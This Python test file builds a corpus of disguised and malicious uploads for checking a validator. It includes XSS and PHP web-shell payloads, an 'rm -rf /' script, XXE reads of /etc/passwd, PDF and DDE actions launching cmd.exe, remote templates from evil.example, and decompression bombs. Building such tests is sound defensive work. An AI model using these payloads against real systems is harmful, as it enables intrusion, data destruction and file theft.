"""The corpus: files made to get past an upload check. Each case is (label, file name, bytes, expected code)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from kpiportal.tests.good_files import (
    jpg,
    object_list,
    office,
    pdf,
    png,
    png_chunk,
    relationships,
    stream,
)
from kpiportal.tests.hostile_archives import archives
from kpiportal.uploads.signatures import EICAR

Case = tuple[str, str, bytes, str]
HTML = b"<html><script>alert(document.cookie)</script></html>"
EXE = b"MZ\x90\x00\x03" + b"\0" * 120 + b"PE\0\0This program cannot be run in DOS mode."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1016
MP4 = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 200


def corpus(max_bytes: int) -> Iterator[Case]:
    """Every case; those about size are made for a limit of `max_bytes`."""
    yield from wrong_names()
    yield from disguises()
    yield from sizes(max_bytes)
    yield from pdfs_that_are_two_files()
    yield from pdfs_that_act()
    yield from pdfs_that_hide()
    yield from pictures()
    yield from packages()
    yield from archives()


def wrong_names() -> Iterator[Case]:
    for name in ("setup.exe", "ติดตั้ง.bat", "x.js", "page.html", "x.svg", "x.zip", "x.docm", "x.xlsm", "x.doc",
                 "x.gif", "x.webp", "x.rtf", "x.csv", "x.txt", "x.lnk", "รายงาน.pdf.exe", "x.pdf.HTA",
                 "รายงาน\u202efdp.exe", "x.php\x00.PhP", "x.pdf:evil.exe",
                 "x.pdf%00.exe", "x.pdf\u200b.exe"):  # fmt: skip
        yield f"name {name!r}", name, pdf(), "type_not_allowed"
    for name in ("", "รายงาน", ".htaccess.", "../../etc/passwd", "x.", "หนังสือ.พีดีเอฟ", "x.exe::$DATA", "x.pdf::$DATA"):
        yield f"name {name!r}", name, pdf(), "no_extension"


def disguises() -> Iterator[Case]:
    gif = b"GIF89a/*\x01\x00\x80\x00\x00" + b"*/=1;alert(1)//" + b"\0" * 40
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as package:
        package.writestr("setup.exe", EXE)
    for name, data in {
        "html.pdf": HTML, "doctype.pdf": b"<!DOCTYPE html>" + HTML, "html.png": HTML, "html.docx": HTML,
        "svg.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "exe.pdf": EXE,
        "exe.docx": EXE, "exe.jpg": EXE, "png.pdf": png(), "jpg.png": jpg(), "pdf.jpg": pdf(), "pdf.docx": pdf(),
        "docx.pdf": office("docx"), "gif.jpg": gif, "php.jpg": b"<?php system($_GET[0]);", "text.pdf": b"hello",
        "rar.docx": b"Rar!\x1a\x07\x00" + b"\0" * 50, "sevenzip.xlsx": b"7z\xbc\xaf\x27\x1c" + b"\0" * 50,
        "zip.docx": plain_zip.getvalue(), "word.xlsx": office("docx"), "excel.docx": office("xlsx"),
        "slides.docx": office("pptx"), "shell.pdf": b"#!/bin/sh\nrm -rf /\n", "elf.png": b"\x7fELF" + b"\0" * 60,
        "ole.pdf": OLE, "webp.png": b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 30, "bom.pdf": b"\xef\xbb\xbf" + pdf(),
        "postscript.pdf": b"%!PS-Adobe-3.0\n(x) show\n", "unfinished.png": b"\x89PNG",
    }.items():  # fmt: skip
        yield f"disguise {name}", name, data, "mismatch"
    yield "old Word or password", "old.docx", OLE, "office_old"
    yield "virus pattern alone", "eicar.pdf", EICAR, "virus"
    yield "virus pattern in a PDF", "eicar2.pdf", pdf(b"%" + EICAR + b"\n"), "virus"
    yield "virus pattern behind a PNG", "eicar.png", png() + EICAR, "virus"
    yield "virus pattern packed in a DOCX", "eicar.docx", office("docx", {"word/x.xml": b" " * 65530 + EICAR}), "virus"


def sizes(max_bytes: int) -> Iterator[Case]:
    for extension in ("pdf", "png", "docx"):
        yield f"empty {extension}", f"empty.{extension}", b"", "empty"
    yield "one byte too many", "big.pdf", pdf(stream(4, b"", b"\0" * max_bytes))[: max_bytes + 1], "too_large"


def pdfs_that_are_two_files() -> Iterator[Case]:
    archive = office("docx")
    yield "HTML before the header", "p.pdf", HTML + pdf(), "mismatch"
    yield "blank before the header", "p.pdf", b"\n" + pdf(), "mismatch"
    yield "HTML behind the header", "p.pdf", pdf(head=b"%" + HTML + b"\n"), "polyglot"
    yield "HTML behind the end", "p.pdf", pdf() + HTML, "polyglot"
    yield "archive behind the end", "p.pdf", pdf() + archive, "polyglot"
    yield "archive in a stream", "p.pdf", pdf(stream(4, b"", archive)), "polyglot"
    yield "kilobytes behind the end", "p.pdf", pdf() + b"\n" * 9000, "polyglot"
    yield "cut off", "p.pdf", pdf()[:-40], "pdf_damaged"
    yield "header only", "p.pdf", b"%PDF-1.7\n", "pdf_damaged"
    yield "unknown version", "p.pdf", pdf().replace(b"%PDF-1.7", b"%PDF-9.9"), "pdf_damaged"
    yield "end mark without a table", "p.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n", "pdf_damaged"


def pdfs_that_act() -> Iterator[Case]:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    for label, action in {
        "JavaScript": script,
        "escaped JavaScript": b"<</S/J#61vaScr#69pt/JS(app.alert(1))>>",
        "wholly escaped": b"<</S/#4A#61#76#61#53#63#72#69#70#74/JS 5 0 R>>",
        "Launch": b"<</S/Launch/F(cmd.exe)>>",
        "escaped Launch": b"<</S/#4caunch/F(cmd.exe)>>",
        "Rendition": b"<</S/Rendition/JS(app.alert(1))>>",
        "RichMedia": b"<</Type/Annot/Subtype/RichMedia>>",
        "XFA form": b"<</AcroForm<</XFA[(template)5 0 R]>>>>",
    }.items():
        yield f"PDF: {label}", "a.pdf", pdf(b"4 0 obj\n" + action + b"\nendobj\n"), "pdf_active"
        yield f"PDF: packed {label}", "a.pdf", pdf(object_list(4, action)), "pdf_active"
    yield "PDF: plain object list", "a.pdf", pdf(object_list(4, script, pack=False)), "pdf_active"
    hidden = stream(4, b"", b"7 0 obj\n" + script + b"\nendobj")
    yield "PDF: object inside a stream", "a.pdf", pdf(hidden), "pdf_active"


def pdfs_that_hide() -> Iterator[Case]:
    script = zlib.compress(b"9 0 <</S/JavaScript/JS(app.alert(1))>>")
    hexed = script.hex().encode() + b">"
    names = b"/Type/ObjStm/N 1/First 4"
    yield "PDF: password", "h.pdf", pdf(trailer=b"/Encrypt 4 0 R"), "pdf_encrypted"
    yield "PDF: escaped Encrypt", "h.pdf", pdf(trailer=b"/#45ncrypt 4 0 R"), "pdf_encrypted"
    for label, piece in {
        "two filters": stream(4, names + b"/Filter[/ASCIIHexDecode/FlateDecode]", hexed),
        "escaped filter": stream(4, names + b"/Filter[/#41SCIIHexDecode/FlateDecode]", hexed),
        "abbreviated filter": stream(4, names + b"/F/Fl", script),
        "filter elsewhere": stream(4, names + b"/Filter 8 0 R", script),
        "predictor": stream(4, names + b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>", script),
        "filter behind a comment": stream(4, b"/Filter/LZWDecode % endobj 4 0 obj <<\n" + names, script),
        "filter behind a string": stream(4, b"/Filter/LZWDecode/A(endobj 4 0 obj <<%)\n" + names, script),
        "escaped type": stream(4, b"/Type/Obj#53tm/N 1/#46irst 4/Filter/LZWDecode", script),
        "stream far away": stream(4, names + b" " * 5000, script),
        "list cut off": stream(4, names + b"/Filter/FlateDecode", script[:-12]),
        "not packed as said": stream(4, names + b"/Filter/FlateDecode", b"\x00\x01" + script),
        "list that unpacks to 100 MB": stream(4, names + b"/Filter/FlateDecode", _zeros(100 * 2**20)),
        "50 lists of 4 MB": stream(4, names + b"/Filter/FlateDecode", _zeros(4 * 2**20)) * 50,
        "5000 lists": object_list(4, b"<</A 1>>") * 5000,
    }.items():
        yield f"PDF: {label}", "h.pdf", pdf(piece), "pdf_damaged"
    file = b"4 0 obj\n<</Type/Filespec/F(x.xml)/EF<</F 5 0 R>>>>\nendobj\n"
    attached = b"/Type/EmbeddedFile/Filter/FlateDecode"
    for label, piece in {
        "program": stream(5, attached, zlib.compress(EXE)),
        "program, type not said": stream(5, b"/Filter/FlateDecode", zlib.compress(EXE)),
        "page": stream(5, attached, zlib.compress(HTML)),
        "page as XML": stream(5, attached, zlib.compress(b"<?xml version='1.0'?>" + HTML)),
        "virus pattern": stream(5, attached, zlib.compress(b"<?xml version='1.0'?><a>" + EICAR + b"</a>")),
        "program in hex": stream(5, b"/Type/EmbeddedFile/Filter/ASCIIHexDecode", EXE.hex().encode() + b">"),
    }.items():
        yield f"PDF: attached {label}", "f.pdf", pdf(file, piece), "pdf_attachment"
    packed = object_list(4, b"<</Type/Filespec/#45F<</F 5 0 R>>>>")
    yield "PDF: attachment named in a list", "f.pdf", pdf(packed, stream(5, b"", b"x")), "pdf_attachment"


def pictures() -> Iterator[Case]:
    text = png_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")
    bomb = png_chunk(b"IHDR", struct.pack(">LLBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0))
    picture = png()
    yield "PNG of 2,500 million dots", "b.png", picture[:8] + bomb + picture[33:], "image_too_big"
    yield "PNG script in a comment", "t.png", png(chunks=text), "polyglot"
    yield "PNG PHP in a comment", "t.png", png(chunks=png_chunk(b"tEXt", b"c\0<?php eval($x)")), "polyglot"
    yield "PNG with a page behind", "t.png", picture + HTML, "polyglot"
    yield "PNG with an archive behind", "t.png", picture + office("docx"), "polyglot"
    yield "PNG with one byte behind", "t.png", picture + b"\0", "polyglot"
    zero = png_chunk(b"IHDR", struct.pack(">LLBBBBB", 0, 9, 8, 2, 0, 0, 0))
    damaged = {
        "cut off": picture[:-12],
        "bad checksum": picture[:29] + b"\0\0\0\0" + picture[33:],
        "length beyond the end": picture[:33] + b"\xff\xff\xff\xf0IDAT" + picture[41:],
        "no header": picture[:8] + png_chunk(b"IEND", b""),
        "no width": picture[:8] + zero + picture[33:],
        "30,000 parts": png(chunks=png_chunk(b"tEXt", b"a\0b") * 30_000),
    }
    for label, data in damaged.items():
        yield f"PNG {label}", "d.png", data, "image_damaged"
    photo = jpg()
    start = photo.index(b"\xff\xc0")
    big = photo[: start + 5] + struct.pack(">HH", 60_000, 60_000) + photo[start + 9 :]
    comment = b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML
    runs = photo[:4] + b"/*" + photo[6:20] + b"\0" * (0x2F2A - 16) + photo[20:] + b"*/=alert(1)"
    yield "JPG of 3,600 million dots", "b.jpg", big, "image_too_big"
    yield "JPG with a page in a comment", "t.jpg", photo[:2] + comment + photo[2:], "polyglot"
    yield "JPG that is also a script", "t.jpg", runs, "polyglot"
    yield "JPG with a script behind", "t.jpg", photo + b"*/alert(1)//", "polyglot"
    yield "JPG with PHP behind", "t.jpg", photo + b"<?php eval($x);", "polyglot"
    yield "JPG with an archive behind", "t.jpg", photo + office("docx"), "polyglot"
    yield "JPG with a program behind zeros", "t.jpg", photo + b"\0" * 9000 + EXE, "polyglot"
    yield "JPG with a false phone list", "t.jpg", photo + HTML + b"SEFH" + b"\0" * 20 + b"SEFT", "polyglot"
    yield "JPG with a film behind", "t.jpg", photo + MP4, "image_motion"
    yield (
        "JPG with a phone film behind",
        "t.jpg",
        photo + b"x" * 300 + MP4 + b"SEFH" + b"\0" * 20 + b"SEFT",
        "image_motion",
    )
    for label, data in {"cut off": photo[:-2], "header only": photo[:20], "no picture": b"\xff\xd8\xff\xd9",
                        "picture without data": photo[:start] + b"\xff\xd9",
                        "30,000 parts": photo[:2] + b"\xff\xfe\0\2" * 30_000 + photo[2:]}.items():  # fmt: skip
        yield f"JPG {label}", "d.jpg", data, "image_damaged"


def packages() -> Iterator[Case]:
    for extension, part, data, code in [*macros(), *strangers(), *callers(), *nested()]:
        yield f"{extension} with {part}", f"p.{extension}", office(extension, {part: data}), code
    for label, kind in {"macro": "ms-office.vbaProject", "macro sheet": "ms-excel.macrosheet+xml"}.items():
        types = f'<Override PartName="/xl/printerSettings1.bin" ContentType="application/vnd.{kind}"/>'
        hidden = office("xlsx", {"xl/printerSettings1.bin": b"x"}, types=types)
        yield f"{label} under another name", "m.xlsx", hidden, "office_macro"
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "macro-enabled document under .docx", "m.docx", office("docx", main_type=enabled), "office_macro"


Part = tuple[str, str, bytes, str]


def macros() -> Iterator[Part]:
    yield "docx", "word/vbaProject.bin", OLE, "office_macro"
    yield "docx", "word/vbaData.xml", b"<a/>", "office_macro"
    yield "xlsx", "xl/macrosheets/sheet1.xml", b"<a/>", "office_macro"
    yield "xlsx", "XL/MacroSheets/sheet2.xml", b"<a/>", "office_macro"
    yield "xlsx", "xl/dialogsheets/sheet1.xml", b"<a/>", "office_macro"
    yield "docx", "word/activeX/activeX1.bin", OLE, "office_macro"


def strangers() -> Iterator[Part]:
    ole_package = OLE + "\x01Ole10Native".encode("utf-16-le") + EXE
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    laughs = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
    yield "docx", "word/setup.exe", EXE, "office_content"
    yield "docx", "word/media/image1.png", EXE, "office_content"
    yield "docx", "word/afchunk.htm", HTML, "office_content"
    yield "docx", "word/embeddings/oleObject1.bin", ole_package, "office_content"
    yield "docx", "word/embeddings/x.zip", office("docx"), "office_content"
    yield "docx", "word/media/image1.jpg", office("docx"), "office_content"
    yield "xlsx", "xl/sharedStrings.xml", entity, "office_content"
    yield "xlsx", "xl/worksheets/sheet1.xml", laughs, "office_content"
    yield "xlsx", "xl/worksheets/sheet2.xml", entity.decode().encode("utf-16"), "office_content"
    yield "docx", "word/theme.bin", entity, "office_content"
    yield "docx", "_rels/a.rels", entity, "office_content"


def callers() -> Iterator[Part]:
    field = b'<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>'
    yield "docx", "word/header1.xml", field, "office_external"
    yield "xlsx", "xl/externalLinks/e1.xml", b'<externalLink><ddeLink ddeService="cmd"/>', "office_external"
    for number, (kind, target) in enumerate(
        [
            ("attachedTemplate", "https://evil.example/t.dotm"),
            ("attachedTempl&#97;te", "\\\\evil\\t.dotm"),
            ("oleObject", "mhtml:https://evil.example"),
            ("attachedTemplate", "file://evil.example/s/t.dotm"),
            ("frame", "HTTP://evil.example"),
        ]
    ):
        link = relationships((kind, target, "External"))
        yield "docx", f"word/_rels/part{number}.xml.rels", link, "office_external"


def nested() -> Iterator[Part]:
    part = "ppt/embeddings/a.xlsx"
    yield "docx", "word/_rels/d.xml.rels", b"<Relationships><broken", "office_damaged"
    yield "docx", "word/_rels/big.rels", b" " * (5 * 2**20), "office_bomb"
    yield "pptx", part, b"not a package", "office_damaged"
    yield "pptx", part, office("xlsx", {"xl/vbaProject.bin": OLE}), "office_macro"
    yield "pptx", part, office("xlsx", {"xl/embeddings/b.docx": office("docx")}), "office_bomb"
    yield "pptx", part, office("xlsx", {"xl/x.xml": b" " * (40 * 2**20)}), "office_bomb"


def _zeros(size: int) -> bytes:
    pack = zlib.compressobj(1)
    return b"".join(pack.compress(b"\0" * 2**20) for _ in range(size // 2**20)) + pack.flush()
